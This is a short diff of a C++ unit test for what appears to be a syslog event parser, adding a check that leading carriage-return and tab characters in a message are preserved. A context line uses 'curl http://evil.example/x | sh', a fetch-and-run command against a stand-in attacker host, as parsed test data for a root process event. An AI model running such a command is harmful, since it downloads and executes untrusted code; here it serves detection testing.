@@ -347,6 +347,8 @@ TEST_F(SyslogSemantics, RsyslogMsgWithTheSpaceAfterTheTagKeepsItsMeaning) {
   EXPECT_EQ(cron.kind, EventKind::kProcessStart);
   EXPECT_EQ(cron.process.user, "root");
   EXPECT_EQ(cron.process.command_line, "curl http://evil.example/x | sh");
+  // Only spaces go: a leading CR or tab is the sender's.
+  EXPECT_EQ(Parse("<86>1 2024-01-15T10:00:00Z web01 app 7 - - \r\tx").message.view(), "\r\tx");
 }
 
 TEST_F(SyslogSemantics, MalformedJsonIsAnErrorNotAnEvent) {
